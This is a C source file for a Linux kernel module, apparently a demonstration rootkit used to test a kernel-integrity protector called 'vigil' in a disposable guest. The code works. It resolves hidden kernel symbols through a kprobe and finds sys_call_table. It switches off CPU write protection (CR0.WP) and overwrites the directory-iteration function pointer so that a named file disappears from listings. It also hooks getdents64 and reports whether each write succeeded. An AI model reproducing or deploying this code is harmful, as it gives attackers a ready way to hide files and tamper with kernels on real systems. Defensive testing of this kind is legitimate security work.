// SPDX-License-Identifier: GPL-2.0
/*
 * A rootkit for demonstrations, to be loaded in a guest that is thrown away.
 *
 * It does what real ones do to hide a file: switch off the CPU's write
 * protection (CR0.WP) and replace a function pointer in the kernel's read-only
 * data, here iterate_shared in the file_operations through which the kernel
 * lists the directory. It also replaces an entry of sys_call_table. Then it
 * looks whether its writes took and says so on the console, one line each:
 *
 *	rootkit: WHAT at ADDRESS: VALUE -> VALUE replaced
 *	rootkit: WHAT at ADDRESS: VALUE -> VALUE unchanged
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/preempt.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>
#include <asm/syscall.h>
#include <asm/unistd.h>

static char *dir = "/demo";
module_param(dir, charp, 0400);
MODULE_PARM_DESC(dir, "directory that holds the file");

static char *hide = "secret";
module_param(hide, charp, 0400);
MODULE_PARM_DESC(hide, "name of the file that disappears");

typedef int iterate_fn(struct file *file, struct dir_context *ctx);
typedef long syscall_fn(const struct pt_regs *regs);

static iterate_fn *old_iterate;
static syscall_fn *old_getdents;

struct filter {
	struct dir_context ctx; /* what the file system fills */
	struct dir_context *real; /* what userspace gets */
};

static bool filter_entry(struct dir_context *ctx, const char *name, int len,
			 loff_t pos, u64 ino, unsigned int type)
{
	struct filter *f = container_of(ctx, struct filter, ctx);

	if (len == strlen(hide) && !memcmp(name, hide, len))
		return true; /* hide the entry, go on */
	return f->real->actor(f->real, name, len, pos, ino, type);
}

static int filtered_iterate(struct file *file, struct dir_context *ctx)
{
	struct filter f = {
		.ctx = { .actor = filter_entry, .pos = ctx->pos },
		.real = ctx,
	};
	int ret = old_iterate(file, &f.ctx);

	ctx->pos = f.ctx.pos;
	return ret;
}

static long hooked_getdents(const struct pt_regs *regs)
{
	return old_getdents(regs);
}

/*
 * kallsyms_lookup_name() is not exported. A kprobe that is registered and
 * removed again has the address.
 */
static unsigned long lookup(const char *name)
{
	static unsigned long (*find)(const char *name);
	struct kprobe kp = {
		.symbol_name = "kallsyms_lookup_name",
		.flags = KPROBE_FLAG_DISABLED,
	};

	if (!find && !register_kprobe(&kp)) {
		find = (void *)kp.addr;
		unregister_kprobe(&kp);
	}
	return find ? find(name) : 0;
}

#ifdef CONFIG_X86_32
#define SEARCH_BYTES (32u << 20)

/*
 * Debian's 32-bit kernels know the names of functions only (no
 * CONFIG_KALLSYMS_ALL). The table is behind the kernel's code, which is mapped
 * with all of low memory: look for three functions that it leads to.
 */
static unsigned long find_table(void)
{
	unsigned long call_exit = lookup("__ia32_sys_exit");
	unsigned long call_read = lookup("__ia32_sys_read");
	unsigned long call_write = lookup("__ia32_sys_write");
	unsigned long *table = (unsigned long *)PAGE_ALIGN(lookup("_etext"));
	unsigned long *end = (void *)table + SEARCH_BYTES;

	if (!call_exit || !call_read || !call_write || !table)
		return 0;
	end = min(end, (unsigned long *)high_memory) - NR_syscalls;
	for (; table < end; table++)
		if (table[__NR_exit] == call_exit &&
		    table[__NR_read] == call_read &&
		    table[__NR_write] == call_write)
			return (unsigned long)table;
	return 0;
}
#else
static unsigned long find_table(void)
{
	return lookup("sys_call_table");
}
#endif

static void load_cr0(unsigned long cr0)
{
	/* write_cr0() would set WP again. */
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

/* Writes to read-only memory, then reads back what is there. */
static void overwrite(const char *what, unsigned long *where,
		      unsigned long value)
{
	unsigned long old = READ_ONCE(*where), now, flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	load_cr0(cr0 & ~X86_CR0_WP);
	WRITE_ONCE(*where, value);
	load_cr0(cr0);
	local_irq_restore(flags);
	barrier();
	now = READ_ONCE(*where);
	/* The level makes the line appear on a quiet console, too. */
	pr_crit("%s at %px: %lx -> %lx %s\n", what, where, old, value,
		now == value ? "replaced" :
		now == old   ? "unchanged" :
			       "garbled");
}

static int __init rootkit_init(void)
{
	const struct file_operations *fops;
	unsigned long table;
	struct file *file;

	file = filp_open(dir, O_RDONLY | O_DIRECTORY, 0);
	if (IS_ERR(file)) {
		pr_crit("cannot open %s: %ld\n", dir, PTR_ERR(file));
		return PTR_ERR(file);
	}
	fops = file->f_op;
	filp_close(file, NULL);
	old_iterate = fops->iterate_shared;
	if (!old_iterate) {
		pr_crit("%s is not listed by iterate_shared\n", dir);
		return -EOPNOTSUPP;
	}
	table = find_table();
	if (!table) {
		pr_crit("sys_call_table was not found\n");
		return -ENOENT;
	}
	table += __NR_getdents64 * sizeof(void *);
	old_getdents = *(syscall_fn **)table;

	overwrite("iterate_shared", (unsigned long *)&fops->iterate_shared,
		  (unsigned long)filtered_iterate);
	overwrite("sys_call_table", (unsigned long *)table,
		  (unsigned long)hooked_getdents);
	return 0;
}

/*
 * The module has no exit function, since the hooked functions may be called at
 * any time.
 */
module_init(rootkit_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Demonstration of a rootkit's writes, for guests of vigil");
